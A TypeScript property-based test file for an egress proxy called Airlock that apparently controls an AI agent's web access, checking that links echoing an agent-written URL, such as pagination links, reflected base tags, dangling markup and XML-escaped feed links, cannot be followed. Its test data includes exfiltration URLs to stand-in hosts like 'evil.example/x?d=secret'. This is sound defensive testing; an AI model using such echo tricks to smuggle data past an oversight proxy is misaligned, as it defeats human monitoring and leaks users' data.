// Echoes that run on: a URL the agent wrote comes back followed by text of the answer's own with
// nothing to end it — a pagination link `/s?q=<the URL>&page=2` (its query not escaped, so the URL
// is found in the attribute), a JSON `next` value, a sort link in text, a `<base href>` the page
// reflected (its relative links resolve under the agent's URL), an attribute the agent left open
// (dangling markup), a host the server prefixed with `www.`, a translate or archive link to another
// host carrying it. The link found then holds the agent's URL *and more*, so its letters were not
// all in the request, and the echo check recorded it: the agent followed `…?d=<data>&page=2`.
// Property-based over the agent's URL × how the answer runs on from it × the suffix; then through
// a real Airlock with curl.
import http from 'node:http';
import fc from 'fast-check';
import t from 'tap';
import { LinkScanner, echoedBy, pageSkeleton, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
import { tempDir } from '../temp-dir.ts';
import { listenWeb, policyCopy, startSessionAirlock, testConfig, viaCurl } from '../sessions/helpers.ts';

const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 300);
const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};

const word = fc.stringMatching(/^[A-Za-z0-9]{3,10}$/);
const leakUrl = fc.record({
  scheme: fc.constantFrom('http', 'https'),
  host: fc.tuple(word, fc.constantFrom('evil.example', 'x.test')).map(([a, b]) => `${a}.${b}`),
  path: fc.array(word, { minLength: 0, maxLength: 2 }),
  query: fc.array(fc.tuple(word, word), { maxLength: 2 }),
}).map((u) => `${u.scheme}://${u.host}/${u.path.join('/')}${u.query.length ? `?${u.query.map(([k, v]) => `${k}=${v}`).join('&')}` : ''}`);
/** What the answer writes right after the echo. */
const suffix = fc.oneof(
  fc.tuple(fc.constantFrom('&page=', '&offset=', '&sort=', '/', '/page/', '?p=', '#x', '&amp;start='), word).map(([a, b]) => a + b),
  fc.constantFrom('</p><a href=', '</b></p>', '&lang=en'),
);
const shapes = ['html-pagination', 'html-base', 'html-dangling', 'json-next', 'text-sort', 'www-prefixed', 'shared'] as const;
const served = 'https://blog.example/posts/2024/review';

function answer(shape: (typeof shapes)[number], url: string, more: string): { format: LinkFormat; body: string; q: string } {
  switch (shape) {
    case 'html-pagination': return { format: 'html', q: url, body: `<p>Results for ${url}</p><a href="${served}">r</a><a href="/s?q=${url}${more}">next</a>` };
    case 'html-base': return { format: 'html', q: `<base href="${url}/">`, body: `<p>Results for <base href="${url}/"></p><a href="${more.replace(/^[&?#/]+/, '') || 'x'}">more</a><a href="${served}">r</a>` };
    case 'html-dangling': return { format: 'html', q: `<a href="${url}`, body: `<p>Results for <a href="${url}${more}</p><p>"x</a><a href="${served}">r</a>` };
    // The server adds `www.` to the host it shows, or links the URL through another host's service.
    case 'www-prefixed': return { format: 'json', q: url, body: JSON.stringify({ results: [{ url: served }], shown: url.replace('://', '://www.') + more }) };
    case 'shared': return { format: 'html', q: url, body: `<a href="${served}">r</a><a href="https://translate.example/t?u=${encodeURIComponent(url)}${more.startsWith('&') ? more : ''}">translate</a> <a href="https://archive.example/web/${url}">archived</a>` };
    case 'json-next': return { format: 'json', q: url, body: JSON.stringify({ query: url, results: [{ url: served }], next: `/s?q=${url}${more}` }) };
    default: return { format: 'text', q: url, body: `results for ${url}\nresult: ${served}\nsorted: /s?q=${url}${more}\n` };
  }
}

t.test('an echo the answer runs on from is not recorded, whatever follows it (property)', async () => {
  fc.assert(fc.property(leakUrl, fc.constantFrom(...shapes), suffix, fc.constantFrom('query', 'header'), fc.boolean(), (url, shape, more, where, schemeless) => {
    // In markup the page resolves a scheme-relative URL (`//evil.example/…`) against its own scheme.
    if (schemeless && (shape === 'html-base' || shape === 'html-dangling')) url = url.replace(/^https?:/, '');
    const { format, body, q } = answer(shape, url, more);
    const pathAndQuery = where === 'query' ? `/s?q=${encodeURIComponent(q)}` : '/s?q=news';
    const headers: Array<[string, string]> = where === 'header' ? [['x-query', q]] : [];
    const page = `https://search.example${pathAndQuery}`;
    const scanner = new LinkScanner(format, page);
    scanner.write(body);
    const sent = requestSkeletons({ pathAndQuery, headers, summary: { truncated: false } });
    if (!sent) return false;
    // Only the result the source chose: nothing that holds the agent's URL (links to the source's
    // own host, which the agent may fetch anyway, aside).
    const links = scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u), pageSkeleton(page)) && new URL(u).hostname !== 'search.example');
    return links.length === 1 && links[0] === served;
  }), { numRuns, ...seed });
});

t.test('decoy URLs before the agent\'s: more than are compared, and the answer records no link', async (t) => {
  const decoys = Array.from({ length: 70 }, (_, i) => `https://d${i}.example/p`).join(' ');
  for (const leak of ['https://evil.example/x?d=secret', 'https://secret.evil.example/']) {
    const pathAndQuery = `/s?q=${encodeURIComponent(`${decoys} ${leak}`)}`;
    const scanner = new LinkScanner('html', `https://search.example${pathAndQuery}`);
    scanner.write(`<a href="https://translate.example/t?u=${encodeURIComponent(leak)}">t</a><a href="/s?q=${leak}&amp;page=2">next</a><a href="${served}">r</a>`);
    const sent = requestSkeletons({ pathAndQuery, headers: [], summary: { truncated: false } })!;
    t.same(scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u), pageSkeleton(`https://search.example${pathAndQuery}`))), [], `${leak} behind 70 decoys`);
  }
  const few = `/s?q=${encodeURIComponent('https://d1.example/p https://d2.example/p')}`;
  const scanner = new LinkScanner('html', `https://search.example${few}`);
  scanner.write(`<a href="${served}">r</a>`);
  t.same(scanner.end().filter((u) => !echoedBy(u, requestSkeletons({ pathAndQuery: few, headers: [], summary: { truncated: false } })!, scanner.spellingsOf(u))), [served], 'a few URLs in the request leave the source\'s result');
});

t.test('through the real proxy: pagination and reflected-base links that run on from an echo, and a feed\'s escaped echo, are not followable', async (t) => {
  const all: Array<{ host: string; url: string }> = [];
  let port = 0;
  const server = http.createServer((req, res) => {
    const host = (req.headers.host ?? '').split(':')[0]!;
    all.push({ host, url: req.url ?? '' });
    req.resume();
    if (host === 'search.test' && req.url?.startsWith('/feed')) {
      // The same search as a feed: the query escaped for XML (`&` as `&amp;`).
      const q = (new URL(req.url, 'http://x').searchParams.get('q') ?? '').replace(/&/g, '&amp;').replace(/</g, '&lt;');
      res.setHeader('content-type', 'application/rss+xml');
      res.end(`<?xml version="1.0"?><rss><channel><title>${q}</title><link>${q}</link><item><link>http://blog.test:${port}/feed-post?a=1&amp;b=2</link></item></channel></rss>`);
    } else if (host === 'search.test') {
      // A search page that writes its query back raw: in the text and in its pagination link.
      const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
      res.setHeader('content-type', 'text/html; charset=utf-8');
      res.end(`<p>Results for ${q}</p><a href="related">related</a> <a href="http://blog.test:${port}/post?id=4">result</a> <a href="/s?q=${q}&amp;page=2">next</a>`);
    } else {
      res.setHeader('content-type', 'text/plain');
      res.end(`ok ${host}`);
    }
  });
  const web = await listenWeb(t, server);
  port = web.port;
  const airlock = await startSessionAirlock(t, tempDir(t, 'al-runon-'), policyCopy(t, { config: { ...testConfig.config, labels: { hosts: { 'search.test': [] } } } }), web);
  const agent = await airlock.agents.add('bot');
  const proxy = airlock.proxyUrl('bot', agent.token);

  const evil = `http://evil.test:${port}/x?d=secret1`;
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil)}`)).status, 200);
  t.equal((await viaCurl(proxy, 'GET', `${evil}&page=2`)).status, 403, 'the pagination link that runs on from the echo is not followable');
  const base = `<base href="http://evil.test:${port}/secret2/">`;
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(base)}`)).status, 200);
  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/secret2/related`)).status, 403, 'a relative link under a reflected base is not followable');
  // A feed escapes the echo for XML: read as text, its link was `…&amp;d=…`, letters the request lacked.
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/feed?q=${encodeURIComponent(`http://evil.test:${port}/x?a=1&d=secret3`)}`)).status, 200);
  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?a=1&amp;d=secret3`)).status, 403, 'the XML-escaped echo is not followable');
  t.notOk(all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
  t.equal((await viaCurl(proxy, 'GET', `http://blog.test:${port}/post?id=4`)).status, 200, 'the result the page chose is followed');
  t.equal((await viaCurl(proxy, 'GET', `http://blog.test:${port}/feed-post?a=1&b=2`)).status, 200, 'a feed\'s own link is followed as it reads, unescaped');
});
